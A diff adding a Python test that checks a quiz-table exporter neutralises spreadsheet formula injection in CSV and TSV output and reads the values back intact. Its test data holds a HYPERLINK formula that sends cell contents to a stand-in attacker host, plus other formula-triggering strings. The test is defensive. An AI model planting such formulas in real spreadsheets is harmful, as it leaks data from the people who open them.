@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 from typing import Any
 
@@ -301,3 +303,30 @@ def test_export_round_trip(fmt: str) -> None:
         write_table(questions, "xlsx")
     with pytest.raises(SearchError, match="missing columns"):
         read_table("question,answer\nq,a\n", "csv")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_export_makes_formula_cells_inert_and_reads_them_back(fmt: str) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+2", "-3+4", "@SUM(A1:A9)", "'=already", "'plain"]
+    questions = [
+        {
+            **quiz_question("十日", "number").as_dict(),
+            "question": hostile[0],
+            "answer": hostile[1],
+            "options": hostile[1:5],
+            "title": hostile[5],
+        }
+    ]
+    table = write_table(questions, fmt)
+    cells = next(csv.DictReader(io.StringIO(table), delimiter="," if fmt == "csv" else "\t"))
+    # What a spreadsheet sees: every cell that would have been a formula starts with an apostrophe.
+    assert cells["question"] == "'" + hostile[0] and cells["answer"] == "'+1+2"
+    assert [cells[f"option_{i}"] for i in range(1, 5)] == ["'+1+2", "'-3+4", "'@SUM(A1:A9)", "''=already"]
+    assert cells["title"] == "'plain" and cells["passage_id"] == str(questions[0]["passage_id"])
+    back = read_table(table, fmt)[0]
+    assert (back["question"], back["answer"], back["options"], back["title"]) == (
+        hostile[0],
+        hostile[1],
+        hostile[1:5],
+        hostile[5],
+    )
